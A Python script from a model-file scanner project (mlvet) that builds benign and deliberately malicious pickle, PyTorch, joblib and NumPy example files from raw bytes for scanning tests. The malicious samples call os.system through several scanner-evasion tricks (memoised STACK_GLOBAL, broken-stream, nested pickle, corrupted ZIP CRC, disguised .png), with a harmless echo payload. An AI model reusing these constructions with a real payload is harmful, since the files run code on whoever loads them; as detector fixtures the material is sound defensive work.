"""Write mlvet's bundled examples: harmless benign and malicious model files, built from raw bytes.

Run ``python examples/make_examples.py`` to regenerate ``examples/benign`` and ``examples/malicious``.
The malicious samples use real attack techniques, but their payload is only ``echo mlvet-demo``; they are
meant to be scanned, never loaded. Only the standard library is used, so the output is byte-for-byte
reproducible.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
CMD = "echo mlvet-demo"


def _str(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _global(mod: str, name: str) -> bytes:
    return f"c{mod}\n{name}\n".encode()


def plain_data() -> bytes:
    # {'epoch': 3, 'lr': 0.001, 'classes': ['cat', 'dog']} at protocol 4
    return (b"\x80\x04}\x94(" + _str("epoch") + b"K\x03" + _str("lr") + b"G" + struct.pack(">d", 0.001)
            + _str("classes") + b"]\x94(" + _str("cat") + _str("dog") + b"eu.")


def os_system() -> bytes:
    return b"\x80\x02" + _global("os", "system") + _str(CMD) + b"\x85R."


def stack_global_memo() -> bytes:
    # Module and name strings are memoised first and fetched back for STACK_GLOBAL.
    return (b"\x80\x04" + _str("posix") + b"\x94" + _str("system") + b"\x94" + b"0"
            + b"h\x00h\x01\x93" + _str(CMD) + b"\x85R.")


def broken_pickle() -> bytes:
    # nullifAI style: the payload runs, then an invalid opcode makes the stream "broken".
    return b"\x80\x02" + _global("os", "system") + _str(CMD) + b"\x85R\xff"


def nested_pickle() -> bytes:
    inner = os_system()
    return (b"\x80\x04" + _global("pickle", "loads")[:0] + b"\x8c\x07_pickle\x8c\x05loads\x93"
            + b"C" + bytes([len(inner)]) + inner + b"\x85R.")


def _torch_zip(data_pkl: bytes, *, corrupt_crc: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", struct.pack("<4f", 1.0, 2.0, 3.0, 4.0))
        z.writestr("archive/version", "3\n")
    raw = bytearray(buf.getvalue())
    if corrupt_crc:
        # Flip the CRC of data.pkl in its local and central headers: Python's zipfile refuses the member,
        # torch.load does not check CRCs and runs it.
        i = raw.find(b"PK\x03\x04")
        raw[i + 14] ^= 0xFF
        j = raw.find(b"PK\x01\x02")
        raw[j + 16] ^= 0xFF
    return bytes(raw)


def torch_state_dict_pickle() -> bytes:
    # OrderedDict({'weight': _rebuild_tensor_v2(persistent_load(('storage', FloatStorage, '0', 'cpu', 4)),
    #              0, (2, 2), (2, 1), False, OrderedDict())})
    return (
        b"\x80\x02" + _global("collections", "OrderedDict") + b")R" + b"q\x00("
        + b"X\x06\x00\x00\x00weight" + _global("torch._utils", "_rebuild_tensor_v2") + b"("
        + b"(X\x07\x00\x00\x00storage" + _global("torch", "FloatStorage") + b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ"
        + b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89" + _global("collections", "OrderedDict") + b")RtR" + b"u."
    )


def npy_numeric() -> bytes:
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
    header += " " * (64 - 10 - len(header) - 1) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + struct.pack("<4f", 1, 2, 3, 4)


FILES: dict[str, bytes] = {
    "benign/plain_data.pkl": plain_data(),
    "benign/state_dict.pt": _torch_zip(torch_state_dict_pickle()),
    "benign/weights.npy": npy_numeric(),
    "malicious/os_system.pkl": os_system(),
    "malicious/stack_global_memo.pkl": stack_global_memo(),
    "malicious/broken_pickle_nullifai.pkl": broken_pickle(),
    "malicious/nested_pickle.pkl": nested_pickle(),
    "malicious/crc_trick_checkpoint.pt": _torch_zip(os_system(), corrupt_crc=True),
    "malicious/joblib_zlib.joblib": zlib.compress(os_system(), 3),
    "malicious/looks_like_an_image.png": os_system(),
}


def main() -> None:
    for rel, data in FILES.items():
        path = HERE / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(f"wrote {rel} ({len(data)} bytes)")


if __name__ == "__main__":
    main()
